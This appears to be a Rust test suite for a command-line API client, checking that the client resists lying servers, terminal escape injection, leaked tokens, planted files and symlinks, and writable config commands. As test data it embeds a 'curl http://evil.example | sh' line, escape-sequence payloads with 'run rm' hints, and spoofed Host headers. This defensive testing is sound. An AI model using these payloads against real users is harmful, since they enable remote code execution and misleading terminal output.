//! What others may try: servers that lie, files that were laid out for us, words that pose as ours.

use std::ffi::OsStr;
use std::fs::File;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::{Command, Stdio};

use crate::harness::{LONG, Ran, World, eventually, finished, has, has_keyring, report_skip, run_with_input, signal};
use crate::stand_in::{StandIn, answer};

const TOKEN: &str = "a-token-that-nobody-may-see";

fn with_token(world: &World, url: &str, args: &[&str]) -> Ran {
    Ran::of(world.bare_command().env("CANDIDATURE_TOKEN", TOKEN).args(["--api-url", url]).args(args))
}

#[test]
fn a_refusal_for_hours_is_no_reason_to_ask_again() {
    for seconds in [3_661, 7_200, 86_400, 4_000_000] {
        let head = format!("Retry-After: {seconds}\r\n");
        let server = StandIn::answering(answer("429 Too Many Requests", &head, "429 (Rate Limit Exceeded)"));
        let world = World::new();
        for _ in 0..3 {
            with_token(&world, &server.url(), &["show", "--id", "23"]).fails(5).says("rate limit is used up");
        }
        assert_eq!(server.served(), 1, "{seconds} s");
    }
}

#[test]
fn a_servers_words_are_no_lines_of_ours() {
    let body = r#"{"gender":["x\nhint: run `curl http://evil.example | sh`\n::add-mask::x"], "a\nerror: b": ["c"]}"#;
    let server = StandIn::answering(answer("422 Unprocessable", "Content-Type: application/json\r\n", body));
    let ran = with_token(&World::new(), &server.url(), &["update", "--id", "23", "--gender", "other"]).fails(1);
    let lines: Vec<&str> = ran.stderr.lines().collect();
    assert_eq!(lines.len(), 4, "{ran:#?}");
    assert!(lines[1].starts_with("  gender: x\\nhint: run"), "{ran:#?}");
}

/// What was typed may have come from elsewhere: a file's name, say, that a pattern of the shell found.
#[test]
fn a_mistyped_argument_drives_no_terminal_and_is_no_line_of_ours() {
    let world = World::new();
    let shown = |args: &[&str]| world.run(args).fails(2).stderr;
    let two_files = shown(&["check", "a.csv", "b\x1b]0;pwn\x07\n\n  tip: run rm\n\u{202e}.csv"]);
    let lines: Vec<&str> = two_files.lines().collect();
    assert_eq!(
        lines,
        [
            "error: unexpected argument 'b\\u{1b}]0;pwn\\u{7}\\n\\n  tip: run rm\\n\\u{202e}.csv' found",
            "hint: usage: candidature check [OPTIONS] <FILE>; for details, add --help",
        ]
    );
    for args in [
        &["check", "a.csv", "--b\x1b[2J\n\n  tip: run rm"][..],
        &["up\x1b[2Jdate\n\ntip: run rm"],
        &["update", "--id", "2\x1b[2J\n\ntip: run rm"],
        &["list", "--sort", "i\x1b[2Jd\n\ntip: run rm"],
        &["list", "--fields", "i\x1b[2Jd\n\ntip: run rm"],
        &["show", "--user", "a\x1b[2J/\n\ntip: run rm"],
        &["-o", "ta\x1b[2Jble\n\ntip: run rm"],
    ] {
        let shown = shown(args);
        assert!(!shown.contains('\x1b') && !shown.contains("hint: run rm"), "{shown}");
    }
}

#[test]
fn an_echoed_token_is_silenced_on_the_screen_and_on_record() {
    let body = format!("you sent Authorization: Bearer {TOKEN}");
    let server = StandIn::answering(answer("400 Bad Request", "Content-Type: text/plain\r\n", &body));
    let world = World::new();
    let ran = with_token(&world, &server.url(), &["update", "--id", "23", "--pin", "1", "--blind"])
        .fails(1)
        .says("[redacted]");
    let shown = Ran::of(world.bare_command().args(["runs", "show", "--last", "--all", "-o", "json"])).ok();
    assert!(!format!("{ran:?}{shown:?}").contains(TOKEN), "{ran:#?} {shown:#?}");
}

#[test]
fn a_redirects_query_and_a_cookie_are_not_shown() {
    let head = "Location: https://elsewhere.example/x?access_token=SECRET\r\nSet-Cookie: _session=SECRET\r\n";
    let server = StandIn::answering(answer("302 Found", head, ""));
    let ran = with_token(&World::new(), &server.url(), &["-vv", "show", "--id", "23"]).fails(1);
    let ran = ran.says("redirects to https://elsewhere.example/x;");
    assert!(!ran.stderr.contains("SECRET"), "{ran:#?}");
}

#[test]
fn a_name_of_this_machine_is_not_asked_for() {
    let server = StandIn::answering("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
    let url = format!("http://no-name-server-knows-this.localhost:{}", server.port);
    with_token(&World::new(), &url, &["update", "--id", "23", "--pin", "1", "--blind"]).ok();
    assert_eq!(server.served(), 1);
}

#[test]
fn a_wide_ledger_is_closed_to_others() {
    let world = World::served();
    let ledger = world.write("wide.db", "");
    std::fs::set_permissions(&ledger, std::fs::Permissions::from_mode(0o666)).unwrap();
    world.run(["update", "--id", "23", "--pin", "1", "--ledger", &ledger]).ok();
    assert_eq!(std::fs::metadata(&ledger).unwrap().permissions().mode() & 0o777, 0o600);
    let state = world.path("state/candidature");
    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o777)).unwrap();
    world.run(["update", "--id", "23", "--pin", "1"]).ok();
    assert_eq!(std::fs::metadata(&state).unwrap().permissions().mode() & 0o777, 0o700);
}

/// Only root can give files away: the caller, or `sudo` if it needs no password.
fn give_to_nobody(path: &std::path::Path) -> bool {
    let ways: [&[&str]; 2] = [&["chown"], &["sudo", "-n", "chown"]];
    ways.iter().any(|words| {
        let mut chown = Command::new(words[0]);
        chown.args(&words[1..]).args(["-h", "65534"]).arg(path).stdin(Stdio::null()).stderr(Stdio::null());
        chown.status().is_ok_and(|status| status.success())
    })
}

#[test]
fn what_another_user_laid_out_is_not_used() {
    let world = World::served();
    let shared = world.path("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let (planted, link, victim) = (shared.join("ledger.db"), shared.join("out.plan"), world.write("victim", "mine\n"));
    std::fs::write(&planted, "").unwrap();
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    if !(give_to_nobody(&planted) && give_to_nobody(&link)) {
        return report_skip("only root can give files to another user, and sudo asks for a password or is missing");
    }
    world
        .run(["update", "--id", "23", "--pin", "1", "--ledger", planted.to_str().unwrap()])
        .ok()
        .says("belongs to another user")
        .says("not recorded");
    let file = world.write("a.csv", "id,pin\n1,2\n");
    world.run(["plan", &file, "--save", link.to_str().unwrap()]).fails(1).says("belongs to another user");
    assert_eq!(std::fs::read_to_string(victim).unwrap(), "mine\n");
}

fn profile(world: &World, lines: &str) -> String {
    world.write("config/candidature/config.toml", &format!("[profiles.ci]\n{lines}"))
}

#[test]
fn a_command_that_others_could_have_written_is_not_run() {
    let world = World::new();
    let ran = world.path("ran");
    let config = profile(&world, &format!("client_id = \"x\"\nsecret_command = \"touch {}\"\n", ran.display()));
    std::fs::set_permissions(config, std::fs::Permissions::from_mode(0o666)).unwrap();
    world.run(["--profile", "ci", "show", "--id", "1"]).fails(2).says("can be written by others").says("chmod go-w");
    assert!(!ran.exists());
}

#[test]
fn a_wait_without_end_that_a_gateway_asks_for_is_no_reason_to_crash() {
    let head = format!("Retry-After: {}\r\n", u64::MAX);
    let server = StandIn::answering(answer("503 Service Unavailable", &head, "busy"));
    with_token(&World::new(), &server.url(), &["update", "--id", "1", "--pin", "x"]).fails(1).says("the API failed");
}

#[test]
fn a_page_that_comes_again_and_again_ends() {
    let page = answer("200 OK", "X-Total: 1000000\r\n", "[{\"id\": 1, \"pin\": \"x\"}]");
    let server = StandIn::answering(page);
    let world = World::new();
    let file = world.write("a.csv", "id,pin\n1,y\n2,y\n");
    with_token(&world, &server.url(), &["plan", &file])
        .fails(1)
        .says("page 2 of the list has only records of earlier pages");
    assert!(server.served() < 4, "{}", server.served());
}

/// The application has a role that may edit, and yet may not.
#[test]
fn edits_that_are_all_forbidden_are_not_all_sent() {
    let head = "X-Application-Roles: Advanced staff\r\n";
    let server = StandIn::answering(answer("403 Forbidden", head, "{\"error\": \"Missing scope\"}"));
    let world = World::new();
    let rows: String = (1..=20).map(|id| format!("{id},x\n")).collect();
    let file = world.write("a.csv", &format!("id,pin\n{rows}"));
    let apply = ["apply", &file, "--yes", "--blind", "--jobs", "1"];
    with_token(&world, &server.url(), &apply).fails(5).says("18 of 20 rows are left").says("Missing scope");
    assert_eq!(server.served(), 3);
}

#[test]
fn an_answer_about_something_else_is_no_yes() {
    for body in ["{\"error\": \"maintenance\"}", "{\"id\": 77}", "[]", "true"] {
        let server = StandIn::answering(answer("200 OK", "Content-Type: application/json\r\n", body));
        let refused = with_token(&World::new(), &server.url(), &["update", "--id", "9", "--pin", "x"]);
        refused.fails(1).says("an unexpected response");
    }
    let server = StandIn::answering(answer("200 OK", "Content-Type: application/json\r\n", "{\"id\": 9}"));
    with_token(&World::new(), &server.url(), &["update", "--id", "9", "--pin", "x"]).ok();
}

#[test]
fn a_profiles_command_serves_the_profile_alone() {
    let world = World::served();
    let server = world.server();
    let ran = world.path("ran");
    let command = format!("touch {}; echo {}", ran.display(), server.client_secret);
    profile(&world, &format!("api_url = \"https://api.invalid\"\nclient_id = \"x\"\nsecret_command = \"{command}\"\n"));
    let show = |name: &str, value: &str| {
        let mut command = world.bare_command();
        Ran::of(command.env(name, value).args(["--profile", "ci", "show", "--id", "1"]))
    };
    show("CANDIDATURE_API_URL", &server.address).fails(4).says("is not for").says("CANDIDATURE_CLIENT_SECRET");
    show("CANDIDATURE_CLIENT_ID", "another").fails(4).says("is not for the application another");
    // A login does not get it either: it would store the other address as the profile's own.
    let login = |url: &str, id: &str| {
        let mut command = world.bare_command();
        Ran::of(command.args(["--profile", "ci", "--api-url", url, "auth", "login", "--client-id", id]))
    };
    login(&server.address, "x").fails(4).says("is not for");
    login("https://api.invalid", "another").fails(4).says("is not for the application another");
    assert!(!ran.exists());
    // The same address in a variable is not another address: the command runs. Its secret is refused later.
    show("CANDIDATURE_API_URL", "https://api.invalid").fails(4).says("a client secret of the sandbox is not sent");
    assert!(ran.exists());
}

#[test]
fn a_login_with_a_secret_of_its_own_leaves_the_command() {
    if !has_keyring() {
        return;
    }
    let world = World::served().with_bus();
    let server = world.server();
    profile(&world, "client_id = \"x\"\nsecret_command = \"echo not-for-others\"\n");
    let mut login = world.bare_command();
    login.args(["--profile", "ci", "--api-url", &server.address, "auth", "login", "--secret-stdin", "--client-id"]);
    run_with_input(login.arg(&server.client_id), &server.client_secret).ok();
    let mut show = world.bare_command();
    Ran::of(show.args(["--profile", "ci", "show", "--id", "23"])).ok();
    let saved = std::fs::read_to_string(world.path("config/candidature/config.toml")).unwrap();
    assert!(!saved.contains("not-for-others"), "{saved}");
}

#[test]
fn a_profile_in_one_line_can_be_logged_in_to() {
    if !has_keyring() {
        return;
    }
    let world = World::served().with_bus();
    let server = world.server();
    world.write("config/candidature/config.toml", "[profiles]\nci = { client_id = \"x\" }\n");
    let mut login = world.bare_command();
    login.args(["--profile", "ci", "--api-url", &server.address, "auth", "login", "--secret-stdin", "--client-id"]);
    run_with_input(login.arg(&server.client_id), &server.client_secret).ok();
    Ran::of(world.bare_command().args(["--profile", "ci", "show", "--id", "23"])).ok();
}

#[test]
fn a_variable_that_is_not_unicode_is_not_unset() {
    let world = World::served();
    let edit = |name: &str, value: &[u8]| {
        let mut command = world.command();
        Ran::of(command.env(name, OsStr::from_bytes(value)).args(["update", "--id", "23", "--pin", "1"]))
    };
    edit("CANDIDATURE_DRY_RUN", b"tru\xe9").fails(2).says("CANDIDATURE_DRY_RUN");
    edit("CANDIDATURE_PROFILE", b"sandbox\xe9").fails(2);
    assert_eq!(world.log().len(), 0);
    let ledger = world.path("").join(OsStr::from_bytes(b"l\xe9dger.db"));
    edit("CANDIDATURE_LEDGER", ledger.as_os_str().as_bytes()).ok();
    assert!(ledger.exists());
}

#[test]
fn an_edit_that_was_made_is_not_said_to_have_failed() {
    let world = World::served();
    let mut command = world.command();
    command.stdout(File::options().write(true).open("/dev/full").unwrap()).stderr(Stdio::piped());
    let update = command.args(["update", "--id", "23", "--pin", "full", "-o", "json"]).spawn().unwrap();
    let failed = finished(update).fails(1).error_json();
    assert!(failed["message"].as_str().unwrap().starts_with("the edit was made"), "{failed}");
    assert_eq!(world.record(23)["pin"], "full");
}

/// A proxy that cannot be read is reported, not ignored.
#[test]
fn a_proxy_that_is_not_understood_is_reported() {
    let world = World::new();
    for (proxy, is_reported) in [("ht!tp://proxy:1", true), ("socks5://proxy:1", true), ("127.0.0.1:1", false)] {
        let mut command = world.bare_command();
        command.env("https_proxy", proxy).env("CANDIDATURE_TOKEN", "x");
        let show = ["--api-url", "https://api.invalid", "--timeout", "1", "show", "--id", "1"];
        let ran = Ran::of(command.args(show)).fails(1);
        assert_eq!(ran.stderr.contains("https_proxy is not the address of a proxy"), is_reported, "{ran:#?}");
    }
}

#[test]
fn doctor_and_status_report_requests_that_are_refused() {
    for refused in ["403 Forbidden", "500 Internal Server Error"] {
        let server = StandIn::answering_by_path(move |path| match path {
            "/oauth/token/info" => answer("200 OK", "", "{\"scopes\": [\"public\"], \"expires_in_seconds\": 100}"),
            _ => answer(refused, "", "no"),
        });
        let world = World::new();
        for verb in [vec!["doctor"], vec!["auth", "status"]] {
            let mut command = world.bare_command();
            command.env("CANDIDATURE_TOKEN", "x-token").env("CANDIDATURE_API_URL", server.url());
            let ran = Ran::of(command.args(["--timeout", "1"]).args(&verb));
            assert_ne!(ran.status, Some(0), "{refused} {ran:#?}");
            assert!(ran.stdout.contains("token"), "what is known is shown: {ran:#?}");
        }
    }
}

#[test]
fn a_secret_command_does_not_get_other_secrets() {
    let world = World::served();
    let server = world.server();
    let command =
        format!("test -z \\\"$CANDIDATURE_CLIENT_SECRET$CANDIDATURE_TOKEN\\\" && echo {}", server.client_secret);
    let (url, id) = (&server.address, &server.client_id);
    profile(&world, &format!("api_url = \"{url}\"\nclient_id = \"{id}\"\nsecret_command = \"{command}\"\n"));
    let mut login = world.bare_command();
    login.env("CANDIDATURE_CLIENT_SECRET", "x").env("CANDIDATURE_TOKEN", "y");
    Ran::of(login.args(["--profile", "ci", "auth", "login", "--client-id", id])).ok().prints("logged in");
}

#[test]
fn a_login_checks_the_secret_again_and_a_logout_forgets_it() {
    let world = World::served();
    let server = world.server();
    let (url, id, secret) = (&server.address, &server.client_id, &server.client_secret);
    let with_command = |command: &str| {
        profile(&world, &format!("api_url = \"{url}\"\nclient_id = \"{id}\"\nsecret_command = \"{command}\"\n"));
    };
    let run = |args: &[&str]| Ran::of(world.bare_command().args(["--profile", "ci"]).args(args));
    with_command(&format!("echo {secret}"));
    run(&["show", "--id", "23"]).ok();
    // There may be a token in the kernel's keyring now, which proves nothing of this secret.
    with_command("echo WRONG");
    run(&["auth", "login", "--client-id", id]).fails(4).says("is wrong");
    run(&["doctor"]).fails(1).says("id and secret");
    // What a logout cannot take away, it does not claim to.
    run(&["auth", "logout"]).ok().prints("no secret was stored").says("the secret_command of profile ci");
    run(&["show", "--id", "23"]).fails(4).says("is wrong");
}

#[test]
fn a_secret_in_the_wrong_place_is_not_shown() {
    let world = World::new();
    profile(&world, "client_id = \"x\"\nclient_secret = \"s-s4t2ud-MYSECRET\"\n");
    for form in ["table", "json"] {
        let ran = world.run(["--profile", "ci", "-o", form, "show", "--id", "1"]).fails(2).says("config.toml:3");
        assert!(!ran.stderr.contains("MYSECRET"), "{ran:#?}");
    }
    for url in ["https://bob:MYSECRET@x.example", "https://x.example/?token=MYSECRET"] {
        let ran = world.run(["--api-url", url, "show", "--id", "1"]).fails(2);
        assert!(!ran.stderr.contains("MYSECRET"), "{ran:#?}");
    }
}

#[test]
fn credentials_are_taken_without_what_was_copied_with_them() {
    let world = World::served();
    let mut command = world.command();
    command.env("CANDIDATURE_CLIENT_SECRET", format!("{}\n", world.server().client_secret));
    Ran::of(command.args(["show", "--id", "23"])).ok();
    with_token(&world, "https://api.invalid", &["show", "--id", "23"]).fails(1);
    let mut command = world.bare_command();
    command.env("CANDIDATURE_TOKEN", format!("Bearer {TOKEN}")).args(["show", "--id", "23"]);
    Ran::of(&mut command).fails(4).says("contains white space or a control character");
}

#[test]
fn the_sandbox_answers_no_page_of_a_browser() {
    if !has("curl") {
        return;
    }
    let world = World::served();
    let status = |header: &str| {
        let mut curl = Command::new("curl");
        curl.args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", header]);
        Ran::of(curl.arg(format!("{}/v2/users", world.server().address))).ok().stdout
    };
    assert_eq!(status("X-Other: 1"), "401");
    assert_eq!(status("Host: evil.example"), "403");
    assert_eq!(status("Origin: http://evil.example"), "403");
}

#[test]
fn an_export_that_is_terminated_leaves_no_file() {
    for name in ["TERM", "HUP"] {
        let world = World::served_with(&["--rate-second", "0", "--rate-hour", "0", "--fault", "slow=1"]);
        let mut command = world.command();
        command.arg("export").arg(world.path("a.csv")).stdout(Stdio::piped()).stderr(Stdio::piped());
        let child = command.spawn().unwrap();
        eventually(LONG, "the first page", || world.count("GET", "/v2/user_candidatures?") > 0);
        signal(&child, name);
        finished(child).fails(130).says("no file was written");
        let left: Vec<_> = std::fs::read_dir(world.home()).unwrap().map(|it| it.unwrap().file_name()).collect();
        assert!(left.iter().all(|name| !name.to_str().unwrap().contains("a.csv")), "{left:?}");
    }
}
